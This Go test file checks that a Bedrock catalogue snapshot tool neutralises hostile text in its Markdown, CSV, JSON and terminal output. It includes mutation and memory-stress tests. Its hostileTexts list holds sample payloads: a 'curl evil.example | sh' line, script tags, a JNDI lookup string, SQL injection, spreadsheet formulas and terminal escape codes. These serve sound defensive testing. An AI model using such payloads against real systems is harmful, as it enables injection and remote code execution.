//go:build battery

package battery

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"

	"snapshotter/internal/bedrocktest"
)

// hostileTexts are what names, ids and statuses from outside may try, as the
// JSON that is sent: some of it no encoder would write.
var hostileTexts = []string{
	`"pipe | and \\| and || both"`,
	`"line\nfeed\r\n\n# Act on (99)\n\n- item\n\n| a | b |\n|---|---|\n| c | d |"`,
	`"<script>alert(1)</script><!-- <img src=x onerror=y> &amp; &lt;b&gt; </details>"`,
	`"[link](https://evil.example) ![image](https://evil.example/x.png) <https://evil.example> www.evil.example @someone #1 :rocket: $x$"`,
	"\"`tick` ``ticks`` ```sh\\ncurl evil.example | sh\\n``` ~~gone~~ **bold** _em_ \\\\\"",
	"\"` <b>out of the code</b> [link](https://evil.example) `\"",
	`"\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J\u009b31m \u0008\u0000\u007f"`,
	`"\u202egnirts\u202c \u200f\u2066x\u2069 \u200bzero\u200dwidth\ufeff\u00ad \u2028line\u2029end\u180e"`,
	`"=HYPERLINK(\"https://evil.example\",\"x\")"`, `"+1+1"`, `"-1+1"`, `"@SUM(A1:A9)"`, `"\t=1+1"`, `"\r=1+1"`, `"\uff1d1+1"`, `"\u200b=1+1"`, `"a,\"b\";c"`,
	`"lone \ud83d surrogate \udc00 and \ud83d\ude80 a pair"`,
	"\"invalid \xff\xfe \xc3( UTF-8 \xed\xa0\x80\"",
	`"2026-01-01] (x) {y} ${jndi:ldap://evil.example} %s %d %n '; DROP TABLE runs;--"`,
	`"` + strings.Repeat("long ", 300) + `"`,
	`"\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd \u65e5\u672c\u8a9e e\u0301\u0301\u0301 \ud83d\udc69\u200d\ud83d\udc69"`,
	`" "`, `"\u00a0"`,
}

// tame is a harmless text of the same place.
func tame(i int) string { return fmt.Sprintf(`"tame text %d"`, i) }

// spelt is a catalogue of two regions in which text(i) stands wherever a text
// can: in ids, names, statuses, lists and routes. It goes through four nights, in
// which everything that is hostile comes, changes, and goes.
func spelt(spell func(i int) string, night int) bedrocktest.Catalogue {
	calm := bedrocktest.Model{ID: "maker.calm-v1:0", Name: "Calm", Provider: "Maker", InferenceTypes: []string{"ON_DEMAND"}, Lifecycle: bedrocktest.Lifecycle{Status: "ACTIVE"}}
	route := bedrocktest.Profile{ID: "us.maker.calm-v1:0", Name: "US Calm", Models: []string{calm.ID}, Regions: []string{"us-east-1"}}
	c := bedrocktest.Catalogue{}
	for _, region := range []string{"eu-west-1", "us-east-1"} {
		content := bedrocktest.Region{Models: []bedrocktest.Model{calm}, Profiles: []bedrocktest.Profile{route}}
		for i := range len(hostileTexts) {
			if night == 1 || night == 4 {
				continue
			}
			content.Models = append(content.Models, speltModel(spell, i, night))
			content.Profiles = append(content.Profiles, speltProfile(spell, i, night))
		}
		c[region] = content
	}
	return c
}

func speltModel(spell func(int) string, i, night int) bedrocktest.Model {
	value, other := json.RawMessage(spell(i)), json.RawMessage(spell((i+night)%len(hostileTexts)))
	life := map[string]any{"status": "ACTIVE"}
	if night == 3 {
		life = map[string]any{"status": other, "endOfLifeTime": time.Now().AddDate(0, 0, 30).UTC().Format(time.RFC3339)}
	}
	return bedrocktest.Model{ID: "x", InferenceTypes: []string{"ON_DEMAND"}, Extra: map[string]json.RawMessage{
		"modelId": prefixed(fmt.Sprintf("evil%02d.", i), value), "modelName": other, "providerName": value,
		"outputModalities": list1(other), "customizationsSupported": list1(value), "modelLifecycle": encoded(life), "unheardOf": other,
	}}
}

func speltProfile(spell func(int) string, i, night int) bedrocktest.Profile {
	value, other := json.RawMessage(spell(i)), json.RawMessage(spell((i+night)%len(hostileTexts)))
	arn := prefixed("arn:aws:bedrock:us-east-1::foundation-model/", prefixed(fmt.Sprintf("evil%02d.", i), value))
	status := json.RawMessage(`"ACTIVE"`)
	if night == 3 && i%2 == 0 {
		status = other
	}
	return bedrocktest.Profile{ID: "x", Extra: map[string]json.RawMessage{
		"inferenceProfileId": prefixed(fmt.Sprintf("us.evil%02d.", i), value), "inferenceProfileName": other,
		"description": other, "status": status, "models": encoded([]any{map[string]any{"modelArn": arn}}),
	}}
}

// prefixed is a JSON text with something harmless before it.
func prefixed(prefix string, text json.RawMessage) json.RawMessage {
	return append(json.RawMessage(`"`+prefix), text[1:]...)
}

func list1(text json.RawMessage) json.RawMessage {
	return slices.Concat(json.RawMessage("["), text, json.RawMessage("]"))
}

// encoded leaves the texts within as they are, even where they are no UTF-8.
func encoded(value any) json.RawMessage {
	var out bytes.Buffer
	encoder := json.NewEncoder(&out)
	encoder.SetEscapeHTML(false)
	if err := encoder.Encode(value); err != nil {
		panic(err)
	}
	return bytes.TrimSpace(out.Bytes())
}

// hostileRules watch what is hostile, and say so in a hostile note.
const hostileRules = `watch:
- {name: evil, model: "evil*", note: "\e[31m | <b> [a](https://evil.example) \u202e =1+1\nline"}
- {name: calm, model: "maker.calm*", access: on-demand, note: "` + "`" + `"}
- {name: within, model: "*", within: [eu], note: "=1+1"}
`

// TestHostileCatalogue gives the shipped program four nights of a catalogue
// whose every text is out to do harm, and reads all that it prints as its
// readers would: Markdown by a renderer, CSV by a spreadsheet, JSON by a parser,
// and everything by a terminal.
//
//	go test -tags battery -timeout 0 -v -run TestHostileCatalogue ./internal/battery
func TestHostileCatalogue(t *testing.T) {
	evil := fourNights(t, func(i int) string { return hostileTexts[i] })
	good := fourNights(t, tame)
	for _, base := range []string{"1", "2", "3"} {
		head := string(base[0] + 1)
		t.Run("report "+base+" "+head, func(t *testing.T) {
			got := evil.prints(t, "report", base, head)
			checkDocument(t, got)
			if got, want := outline(t, got), outline(t, good.prints(t, "report", base, head)); !slices.Equal(got, want) {
				t.Errorf("the headings are\n%q, of tame names\n%q", got, want)
			}
			evil.judged(t, "json", "report", base, head, "--format", "json")
			evil.everyFormat(t, "diff", base, head)
		})
	}
	ids := evil.ids(t)
	for _, ask := range [][]string{
		{"models", "--as-of", "3"}, {"models", "--as-of", "3", "--matrix"}, {"models", "--as-of", "2", "--provider", "*"}, {"profiles", "--as-of", "3"},
		{"regions"}, {"lifecycle", "--as-of", "3"}, {"watch", "--as-of", "3", "--config", "rules.yaml"}, {"runs"},
		{"where", "evil*", "--as-of", "3"}, {"where", "evil*", "--as-of", "3", "--in", "us-east-1"},
		{"where", ids[0], "--as-of", "2"}, {"where", ids[5], "--as-of", "2", "--in", "eu-west-1"}, {"where", ids[6], "--as-of", "3", "--in", "eu-west-1"},
		{"history", ids[1]}, {"history", ids[4]}, {"history", ids[5]}, {"history", ids[len(ids)-1]},
	} {
		t.Run(strings.ToValidUTF8(strings.Join(ask[:min(2, len(ask))], " "), "?"), func(t *testing.T) { evil.everyFormat(t, ask...) })
	}
	t.Run("export", func(t *testing.T) {
		evil.judged(t, "csv", "export", "--format", "csv", "--as-of", "3")
		evil.judged(t, "table", "export", "--as-of", "3", "--out", "captures")
		evil.judged(t, "table", "import", "captures", "--db", "again.db")
		if there, back := evil.prints(t, "models", "--as-of", "3", "--format", "csv"), evil.prints(t, "models", "--db", "again.db", "--format", "csv"); there != back {
			t.Error("what was exported does not come back the same")
		}
	})
	t.Run("refusals", func(t *testing.T) {
		for _, ask := range [][]string{
			{"where", "evil"}, {"where", "\x1b[31m\u202e"}, {"history", "evil0"}, {"history", "evil"}, {"history", "\x1b[9J"}, {"diff", "\x1b[31m", "2"},
			{"models", "--region", "\x1b[31m["}, {"run", "--region", "\u202e["}, {"\x1b[31m"}, {"runs", "--\x1b[31m"}, {"runs", "--db", "\x1b[31m.db"},
		} {
			evil.refused(t, ask...)
		}
	})
}

// TestHostileCatch takes one guard after the other out of the program, and
// demands that TestHostileCatalogue fails without it.
//
//	go test -tags battery -timeout 0 -v -run TestHostileCatch ./internal/battery
func TestHostileCatch(t *testing.T) {
	if out, err := proveHostile(t, built(t)); err != nil {
		t.Fatalf("the program as it is fails, so that no mutant shows anything: %v\n%s", err, out)
	}
	for _, mutant := range []struct {
		name string
		edit edit
	}{
		{"HTML is let through", edit{"internal/markdown/markdown.go", "`<`, `\\<`, ", ""}},
		{"links are let through", edit{"internal/markdown/markdown.go", "if referring.MatchString(s) {", "if false {"}},
		{"a fence of code is always one backtick", edit{"internal/markdown/markdown.go", `strings.Repeat("` + "`" + `", longest+1)`, `"` + "`" + `"`}},
		{"formulas are let through", edit{"internal/terminal/table.go", `return "'" + cell`, "return cell"}},
		{"control characters are let through to a terminal", edit{"internal/terminal/terminal.go", "if !unicode.IsPrint(r) {", "if !unicode.IsPrint(r) && r == 0 {"}},
		{"control characters are let through in JSON", edit{"report/json.go", `if r == '\n' || unicode.IsPrint(r) {`, "if r != 0 || unicode.IsPrint(r) {"}},
		{"invisible characters are let through in reports", edit{"internal/markdown/markdown.go", "case !unicode.IsPrint(r):", "case r < ' ':"}},
	} {
		t.Run(mutant.name, func(t *testing.T) {
			out, err := proveHostile(t, built(t, mutant.edit))
			found := regexp.MustCompile(`hostile_test.go:\d+: [^n].*`).FindString(string(out)) // beside how each night went
			if err == nil || found == "" {
				t.Fatalf("nothing was found amiss: %v\n%s", err, out)
			}
			t.Logf("caught: %.200s", found)
		})
	}
}

// proveHostile runs TestHostileCatalogue on a build of the command.
func proveHostile(t *testing.T, program string) ([]byte, error) {
	test, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	return exec.Command(test, "-test.run", "^TestHostileCatalogue$", "-program", program).CombinedOutput()
}

// site is a directory with a history, and the program in it.
type site struct {
	dir    string
	server *bedrocktest.Server
}

func fourNights(t *testing.T, spell func(int) string) *site {
	s := &site{t.TempDir(), bedrock(t)}
	write(t, filepath.Join(s.dir, "rules.yaml"), hostileRules)
	for night := 1; night <= 4; night++ {
		s.server.Serve(spelt(spell, night))
		out := s.judged(t, "table", "run", "--config", "rules.yaml", "--region", "eu-west-1", "--region", "us-east-1", "--confirm-after", "1ms", "-v")
		t.Logf("night %d: %s", night, firstLine(out))
		latest, err := os.ReadFile(filepath.Join(s.dir, "reports", "latest.md"))
		if err != nil {
			t.Fatal(err)
		}
		checkDocument(t, string(latest))
	}
	return s
}

func firstLine(text string) string {
	line, _, _ := strings.Cut(text, "\n")
	return line
}

// ids are those of the hostile models, as the program knows them.
func (s *site) ids(t *testing.T) []string {
	answer := must(decode[struct{ Models []struct{ ID string } }]([]byte(s.prints(t, "models", "--as-of", "2", "--format", "json"))))(t)
	var ids []string
	for _, m := range answer.Models {
		if strings.HasPrefix(m.ID, "evil") && !strings.Contains(m.ID, "\x00") && (len(ids) == 0 || ids[len(ids)-1] != m.ID) {
			ids = append(ids, m.ID)
		}
	}
	if len(ids) < len(hostileTexts)-1 { // no argument of a process can hold a NUL
		t.Fatalf("%d hostile models are known: %q", len(ids), ids)
	}
	return ids
}

// prints is what a call that succeeds prints.
func (s *site) prints(t *testing.T, args ...string) string {
	t.Helper()
	process := command(t.Context(), s.dir, s.server, "", args...)
	var out, err bytes.Buffer
	process.Stdout, process.Stderr = &out, &err
	if code := exitCode(t, process.Run()); code != 0 && code != 3 {
		t.Fatalf("%q left with code %d: %s", args, code, err.String())
	}
	checkTerminal(t, args, err.String())
	return out.String()
}

func (s *site) refused(t *testing.T, args ...string) {
	t.Helper()
	process := command(t.Context(), s.dir, s.server, "", args...)
	out, err := process.CombinedOutput()
	if exitCode(t, err) != 2 && exitCode(t, err) != 1 {
		t.Errorf("%q is not refused", args)
	}
	checkTerminal(t, args, string(out))
}

func (s *site) everyFormat(t *testing.T, args ...string) {
	t.Helper()
	for _, format := range []string{"table", "md", "json", "csv"} {
		s.judged(t, format, append(slices.Clone(args), "--format", format)...)
	}
}

// judged is what a call prints, held to what its format promises.
func (s *site) judged(t *testing.T, format string, args ...string) string {
	t.Helper()
	out := s.prints(t, args...)
	checkTerminal(t, args, out)
	switch format {
	case "md":
		checkDocument(t, out)
	case "csv":
		checkSheet(t, args, out)
	case "json":
		if !json.Valid([]byte(out)) {
			t.Errorf("%q prints what is no JSON", args)
		}
	}
	return out
}

// checkTerminal checks that text can be sent to a terminal: nothing in it moves
// the cursor, changes a colour or the direction, or can't be seen.
func checkTerminal(t *testing.T, args []string, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%q prints what is no UTF-8", args)
	}
	for line := range strings.Lines(text) {
		for _, r := range strings.TrimSuffix(line, "\n") {
			if r != ' ' && !unicode.IsPrint(r) {
				t.Errorf("%q prints %U: %q", args, r, line)
				return
			}
		}
	}
}

// checkSheet checks that a spreadsheet finds rows of one width, and no formula.
func checkSheet(t *testing.T, args []string, text string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Errorf("%q prints what is no CSV: %v", args, err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if first, _ := utf8.DecodeRuneInString(cell); cell != "" && strings.ContainsRune("=+-@\t\r＝＋－＠", first) {
				t.Errorf("%q prints the formula %q", args, cell)
			}
			if strings.ContainsFunc(cell, func(r rune) bool { return r != ' ' && !unicode.IsPrint(r) }) {
				t.Errorf("%q prints the cell %q", args, cell)
			}
		}
	}
}

var (
	gfm = goldmark.New(goldmark.WithExtensions(extension.GFM))
	// folding is the only HTML that a report writes, and shell the only code.
	folding = regexp.MustCompile(`^(<details><summary>[A-Za-z0-9 ]+</summary>|</details>)\n?$`)
	shell   = "sh"
)

// checkDocument checks that a renderer makes of Markdown nothing that came from
// outside: no link but to a section, no image, no HTML but folds.
func checkDocument(t *testing.T, markdown string) {
	t.Helper()
	checkTerminal(t, []string{"Markdown"}, markdown)
	source := []byte(markdown)
	walk(t, source, func(n ast.Node) {
		bad := ""
		switch n := n.(type) {
		case *ast.Link:
			if bad = string(n.Destination); strings.HasPrefix(bad, "#") {
				bad = ""
			}
		case *ast.FencedCodeBlock:
			if bad = string(n.Language(source)); bad == shell {
				bad = ""
			}
		case *ast.HTMLBlock:
			if bad = string(n.Lines().Value(source)); folding.MatchString(bad) {
				bad = ""
			}
		case *ast.AutoLink, *ast.Image, *ast.RawHTML, *ast.CodeBlock, *ast.Blockquote, *ast.ThematicBreak:
			bad = n.Kind().String()
		}
		if bad != "" {
			t.Errorf("the Markdown holds a %s: %s", n.Kind(), bad)
		}
	})
}

// outline is the structure of a document: its sections, and the levels of its title
// and of what stands below them, which name models.
func outline(t *testing.T, markdown string) []string {
	var headings []string
	source := []byte(markdown)
	walk(t, source, func(n ast.Node) {
		if h, ok := n.(*ast.Heading); ok {
			words := ""
			if h.Level == 2 {
				words = string(h.Lines().Value(source))
			}
			headings = append(headings, fmt.Sprint(h.Level, " ", words))
		}
	})
	return headings
}

func walk(t *testing.T, source []byte, visit func(ast.Node)) {
	t.Helper()
	err := ast.Walk(gfm.Parser().Parse(text.NewReader(source)), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if entering {
			visit(n)
		}
		return ast.WalkContinue, nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// What the sizes of TestHostileSizes are, and what the program may take for them.
const (
	hostileItems  = 100_000
	hostileLength = 1 << 20 // bytes of each of the long texts
	hostileLongs  = 16
	memoryBound   = 2048 // MB resident, of any call
)

// TestHostileSizes gives the shipped program a catalogue of a hundred thousand
// items and texts of a megabyte, changes the texts, and takes all of it away
// again. Every call must end, in bounded memory, with what can still be read. A
// list with an id of a megabyte, which would slow down every later look-up, is
// one that can't be read.
//
//	go test -tags battery -timeout 0 -v -run TestHostileSizes ./internal/battery
func TestHostileSizes(t *testing.T) {
	s := &site{t.TempDir(), bedrock(t)}
	nightly := []string{"run", "--region", "eu-west-1", "--region", "us-east-1", "--confirm-after", "1ms", "--attempt-limit", "5m", "--region-limit", "15m", "--run-limit", "30m"}
	call := func(args ...string) usage {
		t.Helper()
		u := s.measured(t, args...)
		t.Logf("%-62s %8s %6.1f s of CPU %7.0f MB %8.1f MB printed", fmt.Sprintf("%.60s", strings.Join(args, " ")),
			u.wall.Round(10*time.Millisecond), u.cpu.Seconds(), u.peak, float64(len(u.output))/1e6)
		if u.peak > memoryBound {
			t.Errorf("%.60q took %.0f MB, want at most %d", args, u.peak, memoryBound)
		}
		return u
	}
	night := func() {
		call(append(nightly, "-q")...)
		latest, err := os.ReadFile(filepath.Join(s.dir, "reports", "latest.md"))
		if err != nil {
			t.Fatal(err)
		}
		checkDocument(t, string(latest))
		t.Logf("the report has %.1f MB and begins: %s", float64(len(latest))/1e6, firstLine(string(latest)))
	}
	s.server.Serve(spelt(tame, 1))
	night()
	s.server.Serve(huge("long"))
	night()
	for _, ask := range [][]string{
		{"diff"}, {"diff", "--format", "json"}, {"report", "--format", "json"}, {"models"}, {"models", "--matrix"}, {"models", "--format", "json"},
		{"profiles"}, {"regions"}, {"lifecycle"}, {"where", "maker.many-000000"}, {"where", "maker.many-0*"}, {"history", "maker.many-000000"},
		{"export", "--format", "csv"}, {"export", "--out", "captures"},
	} {
		out := call(ask...).output
		checkTerminal(t, ask, out)
		switch {
		case slices.Contains(ask, "json") && !json.Valid([]byte(out)):
			t.Errorf("%q prints what is no JSON", ask)
		case slices.Contains(ask, "csv"):
			checkSheet(t, ask, out)
		}
	}
	s.server.Serve(huge("longer"))
	night()
	call("diff")
	call("history", "maker.long-00")
	s.server.Serve(spelt(tame, 1))
	night()
	calm := spelt(tame, 1)
	calm["us-east-1"] = bedrocktest.Region{Models: []bedrocktest.Model{{ID: strings.Repeat("long", hostileLength/4)}}}
	s.server.Serve(calm)
	if out := s.prints(t, nightly...); !strings.Contains(out, "1 region not read completely") {
		t.Errorf("an id of a megabyte is told as %q", out)
	}
}

// measured is what a call took. Its peak is that of its own memory, looked up
// while it runs: of a process that has ended, Linux tells no less than the memory
// of the one that started it, which holds the catalogue here.
func (s *site) measured(t *testing.T, args ...string) usage {
	t.Helper()
	process := command(t.Context(), s.dir, s.server, "", args...)
	var output, complaint bytes.Buffer
	process.Stdout, process.Stderr = &output, &complaint
	began := time.Now()
	if err := process.Start(); err != nil {
		t.Fatal(err)
	}
	peak, ended := make(chan float64), make(chan struct{})
	go func() {
		highest := 0.0
		for tick := time.NewTicker(5 * time.Millisecond); ; {
			select {
			case <-tick.C:
				highest = max(highest, highWater(process.Process.Pid))
			case <-ended:
				tick.Stop()
				peak <- highest
				return
			}
		}
	}()
	err := process.Wait()
	close(ended)
	if err != nil {
		t.Fatalf("%.100q: %v: %.500s", args, err, complaint.String())
	}
	return usage{
		wall: time.Since(began), cpu: process.ProcessState.UserTime() + process.ProcessState.SystemTime(),
		peak: <-peak, output: output.String(),
	}
}

var highWaterLine = regexp.MustCompile(`(?m)^VmHWM:\s+(\d+) kB$`)

// highWater is the most that a process has had in memory until now, in MB; 0
// once it has ended. https://man7.org/linux/man-pages/man5/proc_pid_status.5.html
func highWater(pid int) float64 {
	status, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	found := highWaterLine.FindSubmatch(status)
	if found == nil {
		return 0
	}
	kilobytes, _ := strconv.Atoi(string(found[1]))
	return float64(kilobytes) / 1024
}

// huge is a catalogue beyond all measure.
func huge(word string) bedrocktest.Catalogue {
	c := spelt(tame, 1)
	for n, code := range []string{"eu-west-1", "us-east-1"} {
		region := c[code]
		for i := n; i < hostileItems; i += 4 {
			id := fmt.Sprintf("maker.many-%06d", i)
			region.Models = append(region.Models, bedrocktest.Model{ID: id, Name: "One of many", Provider: "Maker", InferenceTypes: []string{"ON_DEMAND"}})
			region.Profiles = append(region.Profiles, bedrocktest.Profile{ID: "us." + id, Name: "One of many", Models: []string{id}, Regions: []string{code}})
		}
		for i := range hostileLongs {
			long := strings.Repeat(fmt.Sprintf("%02d|%s <b>", i, word), hostileLength/(len(word)+7))
			region.Models = append(region.Models, bedrocktest.Model{ID: fmt.Sprintf("maker.long-%02d", i), Name: long, InferenceTypes: []string{"ON_DEMAND"}})
			region.Profiles = append(region.Profiles, bedrocktest.Profile{ID: fmt.Sprintf("us.long-%02d", i), Description: long, Models: []string{"maker.calm-v1:0"}, Regions: []string{code}})
		}
		c[code] = region
	}
	return c
}
